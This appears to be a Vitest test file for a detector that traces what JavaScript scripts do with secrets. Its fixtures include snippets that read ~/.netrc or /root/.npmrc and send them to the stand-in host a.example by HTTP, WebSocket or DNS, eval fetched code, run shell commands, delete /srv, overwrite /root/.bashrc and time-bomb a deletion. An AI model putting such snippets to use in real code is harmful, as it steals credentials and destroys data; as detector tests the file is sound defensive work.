import { describe, expect, it } from 'vitest';
import { flowsOf } from './flows.js';

/** Every script starts with a secret in `k`; that it is read is the first flow of each. */
const LEAD = 'const fs = require("fs"), os = require("os");\nconst k = fs.readFileSync(os.homedir() + "/.netrc", "utf8");\n';

/** Where the libraries of JavaScript send a secret. */
const transfers: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['fetch("https://a.example", { method: "POST", body: k });', 'send http https://a.example < secret ~/.netrc'],
  ['fetch("https://a.example", { headers: { authorization: k } });', 'send http https://a.example header < secret ~/.netrc'],
  ['fetch(`https://a.example/?k=${k}`);', 'send http https://a.example/?k=? < secret ~/.netrc'],
  ['const axios = require("axios"); axios.post("https://a.example", { k });', 'send http https://a.example < secret ~/.netrc'],
  ['axios({ url: "https://a.example", data: k });', 'send http https://a.example < secret ~/.netrc'],
  ['const r = require("https").request("https://a.example"); r.write(k);', 'send http https://a.example < secret ~/.netrc'],
  ['require("https").request({ hostname: "a.example", method: "POST" }).end(k);', 'send http a.example < secret ~/.netrc'],
  ['const w = new WebSocket("wss://a.example"); w.send(k);', 'send http wss://a.example < secret ~/.netrc'],
  ['require("dns").lookup(k + ".a.example");', 'send dns ?.a.example < secret ~/.netrc'],
];

/** A secret is followed through expressions, containers and functions. */
const passages: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['console.log(k);', 'print < secret ~/.netrc'],
  ['const [a] = [k]; console.log(a);', 'print < secret ~/.netrc'],
  ['const f = (x) => x; console.log(f(k));', 'print < secret ~/.netrc'],
  ['function f(x) { return x + "!"; } console.log(f(k));', 'print < secret ~/.netrc'],
  ['console.log(k.split("").reverse().join(""));', 'print < secret ~/.netrc'],
  ['console.log(Buffer.from(k).toString("base64"));', 'print < secret ~/.netrc'],
  ['console.log([k].map((x) => x));', 'print < secret ~/.netrc'],
  ['let x; x = k; console.log(x ?? "");', 'print < secret ~/.netrc'],
  ['console.log(true ? k : 1);', 'print < secret ~/.netrc'],
  ['for (const c of [k]) console.log(c);', 'print < secret ~/.netrc'],
  ['const o = {}; o.a = k; console.log(o.a);', 'print < secret ~/.netrc'],
  ['console.log(1);'],
];

/** What counts as a secret, however it is read. */
const reads: readonly (readonly [code: string, ...flows: string[]])[] = [
  [
    'import { readFile as r } from "node:fs/promises";\nr("/root/.npmrc").then((d) => console.log(d));',
    'read /root/.npmrc < secret /root/.npmrc',
    'print < secret /root/.npmrc',
  ],
  ['const { API_KEY } = process.env; console.log(API_KEY);', 'print < credential API_KEY'],
  ['console.log(process.env["API_KEY"]);', 'print < credential API_KEY'],
  ['console.log(process.env.HOME);'],
  ['console.log(JSON.stringify(process.env));', 'print < environment process.env'],
];

/** What is run, and where it comes from. */
const runs: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['eval(atob("Y29uc29sZS5sb2coMSk="));', 'run eval console.log(1) < decoded atob (assembled)'],
  ['new Function("return 1")();', 'run eval return 1'],
  ['eval(String.fromCharCode(97, 40, 41));', 'run eval a() (assembled)'],
  [
    '(async () => { eval(await (await fetch("https://a.example")).text()); })();',
    'send http https://a.example',
    'run eval ? < fetched https://a.example',
  ],
  ['require("child_process").execSync("ls > x");', 'run shell ls > x', 'write x: ?'],
  [
    'const { execFile } = require("node:child_process"); execFile("curl", ["https://a.example"]);',
    'run shell curl https://a.example',
    'send http https://a.example',
  ],
  ['require("child_process").spawn("sh", ["-c", "ls > x"]);', "run shell sh -c 'ls > x'", 'run shell ls > x'],
  [
    'import { execa } from "execa"; await execa("curl", ["https://a.example"]);',
    'run shell curl https://a.example',
    'send http https://a.example',
  ],
  ['Bun.spawn(["curl", "https://a.example"]);', 'run shell curl https://a.example', 'send http https://a.example'],
];

/** What is written and removed, and what waits for a date or a host. */
const writes: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['require("fs").rmSync("/srv", { recursive: true });', 'delete /srv'],
  ['require("fs").writeFileSync("/root/.bashrc", "x");', 'write /root/.bashrc: x'],
  ['require("fs").appendFileSync("/root/.bashrc", "x");', 'append /root/.bashrc: x'],
  ['require("fs").createWriteStream("/root/.bashrc").write("x");', 'write /root/.bashrc: x'],
  ['if (new Date().getFullYear() > 2030) require("fs").rmSync("/srv");', 'guard date', 'guarded delete /srv'],
  ['if (os.hostname() === "x") process.exit();', 'guard hostname'],
];

describe('what a JavaScript script does', () => {
  it.each(transfers)('transfers: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'javascript').slice(1)).toEqual(flows);
  });

  it.each(passages)('passages: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'javascript').slice(1)).toEqual(flows);
  });

  it.each(reads)('reads: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'javascript').slice(1)).toEqual(flows);
  });

  it.each(runs)('runs: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'javascript').slice(1)).toEqual(flows);
  });

  it.each(writes)('writes: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'javascript').slice(1)).toEqual(flows);
  });
});
